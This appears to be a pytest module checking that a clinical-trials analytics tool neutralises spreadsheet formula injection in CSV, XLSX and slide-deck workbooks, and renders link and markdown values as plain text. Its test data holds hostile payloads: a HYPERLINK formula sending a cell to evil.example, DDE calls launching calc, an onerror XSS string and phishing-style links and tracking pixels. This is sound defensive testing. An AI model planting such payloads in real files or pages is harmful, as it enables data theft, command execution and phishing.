"""Hostile text stays text (issue 13: defects 5 and 6): facility names that a spreadsheet would run as formulas
are neutralised in every CSV, XLSX and the deck's chart workbooks; values from a shared link and the registry's
data timestamp never become links or images in the app's notices."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from importlib import resources
from pathlib import Path

import polars as pl
import pytest
from markdown_it import MarkdownIt
from sqlalchemy import update

from db.engine import make_engine
from db.reader import RUNS
from tests.conftest import ROOT
from tests.helpers import run_page
from trials.analytics.rankings import Filters
from trials.present.export import to_csv, to_xlsx
from trials.source.synth import generate

#: Cells a spreadsheet runs (OWASP's list): a formula, a DDE call, an @-function, a leading tab or CR.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klinikum")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


def trials(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "trials", *args], capture_output=True, text=True, timeout=300,
                          check=False, cwd=ROOT, env={**os.environ, **(env or {})})  # fmt: skip


def dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A database whose Essen sites carry facility names that are spreadsheet formulas."""
    tmp = tmp_path_factory.mktemp("hostile")
    records = list(generate(40, 5))
    for record, name in zip(records, HOSTILE, strict=False):
        record["protocolSection"]["contactsLocationsModule"]["locations"] = [
            {"facility": name, "city": "Essen", "country": "Germany", "geoPoint": {"lat": 51.45657, "lon": 7.01228}}
        ]
    corpus = tmp / "hostile.ndjson"
    corpus.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    url = f"sqlite:///{tmp / 'hostile.db'}"
    r = trials("harvest", "--from-file", str(corpus), "--db", url)
    assert r.returncode in (0, 3), r.stderr
    return url


# -- defect 6: formula injection ------------------------------------------------------------------------------------


def test_sites_and_unresolved_institutions_csv_neutralise_formulas(hostile_db: str) -> None:
    r = trials("sites", "--db", hostile_db, "--region", "ruhr", "--format", "csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    facilities = {row["facility"] for row in rows}
    assert {"'" + h.strip() for h in HOSTILE} <= facilities  # (the tab and CR are trimmed as the names are stored)
    assert not [cell for row in rows for cell in row.values() if dangerous(cell)]

    r = trials("institutions", "--unresolved", "--db", hostile_db, "--region", "ruhr", "--format", "csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert {"'" + h.strip() for h in HOSTILE} <= {row["facility"] for row in rows}
    assert not [cell for row in rows for cell in row.values() if dangerous(cell)]


def _cells(xlsx: bytes) -> tuple[list[str], list[str]]:
    """(every string of the workbook, every formula element) of an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        names = z.namelist()
        shared = z.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in names else ""
        sheets = [z.read(n).decode() for n in names if n.startswith("xl/worksheets/sheet")]
    strings = [re.sub(r"<[^>]+>", "", s) for s in re.findall(r"<si>(.*?)</si>", shared, flags=re.S)]
    strings += [re.sub(r"<[^>]+>", "", s) for sheet in sheets for s in re.findall(r"<is>(.*?)</is>", sheet, re.S)]
    formulas = [f for sheet in sheets for f in re.findall(r"<f[ >].*?</f>", sheet, flags=re.S)]
    return strings, formulas


def _unescape(text: str) -> str:
    return (text.replace("&quot;", '"').replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">")
            .replace("&apos;", "'").replace("_x000D_", "\r").replace("&#13;", "\r"))  # fmt: skip


def test_xlsx_cells_and_provenance_are_neutralised() -> None:
    table = pl.DataFrame({"rank": [1, 2], "name": [HOSTILE[0], HOSTILE[1]], "trials": [3, -2], "key": ["a", "b"]})
    filters = Filters(region="ruhr", sponsor_name=HOSTILE[2])  # the sponsor filter comes from the URL
    strings, formulas = _cells(to_xlsx(table, filters, "site", "run 1", "2026-11-27T10:00", [HOSTILE[3]]))
    assert formulas == []
    texts = [_unescape(s) for s in strings]
    assert not [s for s in texts if dangerous(s)], texts
    assert "'" + HOSTILE[0] in texts and "'" + HOSTILE[2] in texts
    assert next(csv.DictReader(io.StringIO(to_csv(table))))["name"] == "'" + HOSTILE[0]  # CSV, as before


def test_the_decks_chart_workbooks_hold_no_formulas(real_db_url: str, tmp_path: Path) -> None:
    """Region labels (from an editable file) are chart categories and series names: written as text."""
    text = resources.files("trials.data").joinpath("regions.toml").read_text(encoding="utf-8")
    text = text.replace('label = "Ruhr (Regionalverband Ruhr)"', f"label = {json.dumps(HOSTILE[0])}", 1)
    text = text.replace('name = "berlin"\nlabel = "Berlin"', 'name = "berlin"\nlabel = "@SUM(1+1)"', 1)
    assert text.count("@SUM(1+1)") == 1 and text.count("evil.example") == 1
    regions = tmp_path / "regions.toml"
    regions.write_text(text, encoding="utf-8")
    out = tmp_path / "deck.pptx"
    env = {"TRIALS_REGIONS_FILE": str(regions), "TRIALS_BASE_URL": "http://127.0.0.1:9/api/v2"}  # never the network
    r = trials("deck", "--db", real_db_url, "--region", "ruhr", "--offline", "--out", str(out), env=env)
    assert r.returncode in (0, 3) and out.exists(), r.stderr
    with zipfile.ZipFile(out) as deck:
        books = [deck.read(n) for n in deck.namelist() if n.startswith("ppt/embeddings/") and n.endswith(".xlsx")]
    assert books, "the deck has native charts with embedded workbooks"
    every: list[str] = []
    for book in books:
        strings, formulas = _cells(book)
        assert formulas == [], formulas
        every += [_unescape(s) for s in strings]
    assert not [s for s in every if dangerous(s)]
    assert any(s.startswith("'=HYPERLINK") or s.startswith("'@SUM") for s in every)


# -- defect 5: markdown injection through shared links and registry text ---------------------------------------------


def rendered(markdown: str) -> str:
    """The HTML a CommonMark renderer makes of ``markdown`` (Streamlit renders notices as markdown)."""
    return str(MarkdownIt("commonmark").render(markdown))


LINK = "[Log in again](https://evil.example/login)"
IMAGE = "![t](https://tracker.example/pixel.png)"
STAMP = "![t](http://t.example/p.png)"  # fits the data_timestamp column (32 characters)


def test_link_values_in_notices_are_shown_as_text(real_db_url: str,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    monkeypatch.setenv("TRIALS_DB_URL", real_db_url)
    at = run_page("rankings", region=LINK, by="<img src=x onerror=alert(1)>", phase=[IMAGE, "phase2"],
                  **{"from": "https://evil.example/x"})  # fmt: skip
    notices = [w.value for w in at.warning]
    shown = " ".join(rendered(n) for n in notices)
    assert "Log in again" in shown and "pixel.png" in shown and "onerror" in shown  # the values are quoted ...
    for notice in notices:  # ... as text: no link, no image, no HTML
        html = rendered(notice)
        assert "<a " not in html and "<img" not in html, html
    assert "evil.example/login" in rendered(notices[0])


def test_the_registry_data_timestamp_is_shown_as_text(real_db_copy: str,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    engine = make_engine(real_db_copy)
    with engine.begin() as conn:
        conn.execute(update(RUNS).values(data_timestamp=STAMP))
    engine.dispose()
    monkeypatch.setenv("TRIALS_DB_URL", real_db_copy)
    for page in ("overview", "data"):
        at = run_page(page, region="ruhr")
        captions = [c.value for c in at.caption if "Registry data as of" in c.value]
        assert captions, page
        for caption in captions:
            html = rendered(caption)
            assert "<img" not in html and "<a " not in html and "t.example" in html, html


@pytest.mark.parametrize("value", [LINK, IMAGE, "see https://evil.example or www.evil.example", "mail x@evil.example",
                                   "<b>x</b>", "`code` and $x$ and :red[red]", "a\n\n# heading"])  # fmt: skip
def test_running_text_and_quoted_values_render_as_exactly_their_text(value: str) -> None:
    from trials.present.markdown import escape_markdown, quote_markdown

    for markdown in (escape_markdown(value), quote_markdown(value)):
        html = rendered(markdown)
        assert "<a " not in html and "<img" not in html and "<b>" not in html and "<h1>" not in html, html
        assert "\n" not in markdown
    for trigger in ("https://", "www.", "x@e"):  # what GitHub-flavoured markdown links without any brackets
        assert trigger not in escape_markdown(value).replace("\\", "")
    assert escape_markdown(value).replace("\\", "").replace("\u2060", "") == value.replace("\n", " ")
